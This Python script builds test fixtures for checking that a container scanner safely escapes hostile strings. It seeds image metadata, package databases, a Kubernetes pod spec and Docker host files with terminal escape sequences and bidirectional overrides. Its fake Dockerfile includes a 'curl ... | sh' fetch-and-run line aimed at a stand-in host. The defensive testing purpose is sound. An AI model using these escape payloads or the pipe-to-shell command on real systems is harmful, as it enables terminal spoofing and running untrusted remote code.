#!/usr/bin/env python3
"""Build the terminal-safety fixtures for tests/hostile/test_output_safety.sh.

Every string field an image, a feed or a host file can carry holds the same hostile
payload: ESC, a 7-bit CSI (ESC [), the 8-bit CSI U+009B as UTF-8 (c2 9b) and as a raw
byte (9b), an OSC title sequence ended by BEL, bidirectional overrides (U+202E, U+2066)
and invalid UTF-8 (ff fe). JSON documents cannot hold invalid UTF-8, so their fields
carry everything else. A GitHub-style token is generated per run (never committed).

Usage: make-terminal.py OUTDIR     (writes OUTDIR/img (OCI layout), OUTDIR/mirror,
                                    OUTDIR/Dockerfile, OUTDIR/k8s.yaml, OUTDIR/host,
                                    OUTDIR/inspect.json, OUTDIR/hashes.txt)
"""
import gzip
import hashlib
import io
import json
import os
import secrets
import string
import sys
import tarfile
import zlib

# the valid-Unicode part (fits JSON) and the full payload with invalid UTF-8
HV = "\x1b[2J\x1b]0;owned\x07\u009b31m\u202eevil\u2066\x07"
HB = HV.encode() + b"\x9b\xff\xfe"


def sha(b):
    return hashlib.sha256(b).hexdigest()


def blob(root, data):
    d = sha(data)
    with open(os.path.join(root, "blobs", "sha256", d), "wb") as f:
        f.write(data)
    return d


def layer(files):
    """files: list of (bytes name, bytes content). An uncompressed tar."""
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w", format=tarfile.PAX_FORMAT,
                      encoding="utf-8", errors="surrogateescape") as t:
        for name, content in files:
            ti = tarfile.TarInfo(name.decode("utf-8", "surrogateescape"))
            ti.size = len(content)
            ti.mtime = 1700000000
            ti.mode = 0o644
            t.addfile(ti, io.BytesIO(content))
    return bio.getvalue()


def gh_token():
    # "ghp_", 30 random characters and their checksum (CRC-32, base62, 6 digits)
    al = string.ascii_letters + string.digits
    body = "".join(secrets.choice(al) for _ in range(30))
    d, c, cs = string.digits + string.ascii_uppercase + string.ascii_lowercase, zlib.crc32(body.encode()), ""
    for _ in range(6):
        c, r = divmod(c, 62)
        cs = d[r] + cs
    return "ghp_" + body + cs


def main():
    out = sys.argv[1]
    token = gh_token()
    mal = b"vigil terminal-safety malware stand-in " + secrets.token_hex(8).encode()
    apk = b""
    for name, ver in ((b"evil" + HV.encode(), b"1.0-r0"), (b"pkg" + HB, b"2.0-r0" + HB)):
        apk += b"C:Q1AAAAAAAAAAAAAAAAAAAAAAAAAAA=\nP:" + name + b"\nV:" + ver + \
            b"\nA:x86_64\nS:1\nI:1\nT:" + HB + b"\nU:http://x/" + HB + b"\nL:MIT" + HB + \
            b"\no:" + name + b"\nm:" + HB + b"\nt:1700000000\nc:" + b"0" * 40 + b"\n\n"
    files = [
        (b"etc/os-release", b'ID=alpine\nVERSION_ID=3.20.3\nPRETTY_NAME="Alpine ' + HB +
         b'"\n'),
        (b"lib/apk/db/installed", apk),
        (b"app/secret" + HB + b".env", b"GITHUB_TOKEN=" + token.encode() + b"\n"),
        (b"app/mal" + HB + b".bin", mal),
        (b"app/Dockerfile", b"FROM alpine" + HB + b"\nUSER root\nRUN echo " + HB +
         b" && curl http://example.invalid/x" + HB + b" | sh\nEXPOSE 22\n"),
        (b"etc/dir" + HB + b"/file" + HB, b"x"),
    ]
    img = os.path.join(out, "img")
    os.makedirs(os.path.join(img, "blobs", "sha256"))
    lt = layer(files)
    lgz = gzip.compress(lt, mtime=0)
    ld = blob(img, lgz)
    cfg = {
        "created": "2023-11-14T22:13:20Z", "architecture": "amd64", "os": "linux",
        "author": HV,
        "config": {
            "User": "root" + HV, "WorkingDir": "/app" + HV,
            "Env": ["PATH=/usr/bin", "MODE" + HV + "=" + HV,
                    "DB_PASSWORD=" + HV + "hunter2-not-a-secret"],
            "Entrypoint": ["/bin/sh" + HV], "Cmd": ["-c", HV],
            "ExposedPorts": {"22/tcp": {}, HV + "/tcp": {}},
            "Volumes": {"/data" + HV: {}},
            "Labels": {"maintainer" + HV: HV, "org.opencontainers.image.title": HV},
            "Healthcheck": {"Test": ["CMD", HV]},
        },
        "rootfs": {"type": "layers", "diff_ids": ["sha256:" + sha(lt)]},
        "history": [{"created": "2023-11-14T22:13:20Z", "created_by": "RUN " + HV,
                     "comment": HV}],
    }
    cb = json.dumps(cfg).encode()
    cd = blob(img, cb)
    man = {"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json",
           "config": {"mediaType": "application/vnd.oci.image.config.v1+json",
                      "digest": "sha256:" + cd, "size": len(cb)},
           "layers": [{"mediaType": "application/vnd.oci.image.layer.v1.tar+gzip",
                       "digest": "sha256:" + ld, "size": len(lgz)}],
           "annotations": {"note": HV}}
    mb = json.dumps(man).encode()
    md = blob(img, mb)
    idx = {"schemaVersion": 2, "mediaType": "application/vnd.oci.image.index.v1+json",
           "manifests": [{"mediaType": "application/vnd.oci.image.manifest.v1+json",
                          "digest": "sha256:" + md, "size": len(mb),
                          "annotations": {"org.opencontainers.image.ref.name": "v1" + HV}}]}
    with open(os.path.join(img, "index.json"), "w") as f:
        json.dump(idx, f)
    with open(os.path.join(img, "oci-layout"), "w") as f:
        f.write('{"imageLayoutVersion": "1.0.0"}')

    # a vulnerability mirror: one OSV record for the hostile package
    m = os.path.join(out, "mirror")
    os.makedirs(m)
    osv = {"schema_version": "1.3.1", "id": "GO-2099-0001", "modified": "2099-01-02T00:00:00Z",
           "published": "2099-01-01T00:00:00Z", "aliases": ["CVE-2099-0001"],
           "summary": "title " + HV, "details": HV,
           "affected": [{"package": {"ecosystem": "Alpine:3.20",
                                     "name": "evil" + HV},
                         "ranges": [{"type": "ECOSYSTEM",
                                     "events": [{"introduced": "0"}, {"fixed": "9.0-r0" + HV}]}]}]}
    ob = json.dumps(osv).encode()
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w:gz") as t:
        ti = tarfile.TarInfo("golang-vulndb/data/osv/GO-2099-0001.json")
        ti.size = len(ob)
        t.addfile(ti, io.BytesIO(ob))
    with open(os.path.join(m, "golang-vulndb.tar.gz"), "wb") as f:
        f.write(bio.getvalue())

    with open(os.path.join(out, "hashes.txt"), "wb") as f:
        f.write(sha(mal).encode() + b" Evil" + HB + b"\n")
    with open(os.path.join(out, "Dockerfile"), "wb") as f:
        f.write(files[4][1])
    with open(os.path.join(out, "k8s.yaml"), "wb") as f:
        f.write(b"apiVersion: v1\nkind: Pod\nmetadata:\n  name: \"p\\e[2J\\x9b\\u202e\"\n"
                b"spec:\n  hostNetwork: true\n  containers:\n  - name: \"c\\e]0;t\\a\\u2066\"\n"
                b"    image: \"evil\\e[31m:latest\"\n    securityContext:\n"
                b"      privileged: true\n      capabilities:\n        add: [\"SYS_ADMIN\\e[2J\"]\n")
    host = os.path.join(out, "host")
    os.makedirs(os.path.join(host, "etc", "docker"))
    with open(os.path.join(host, "etc", "docker", "daemon.json"), "w") as f:
        json.dump({"insecure-registries": ["r" + HV + ":5000"], "icc": True,
                   "log-driver": "x" + HV}, f)
    ins = [{"Id": "0" * 64, "Name": "/c" + HV, "Config": {"Image": "img" + HV, "User": HV},
            "HostConfig": {"Privileged": True, "CapAdd": ["SYS_ADMIN" + HV],
                           "Binds": ["/" + HV + ":/x"], "NetworkMode": "host"},
            "Mounts": [{"Type": "bind", "Source": "/var/run/docker.sock" + HV,
                        "Destination": "/d" + HV}]}]
    with open(os.path.join(out, "inspect.json"), "w") as f:
        json.dump(ins, f)


if __name__ == "__main__":
    main()
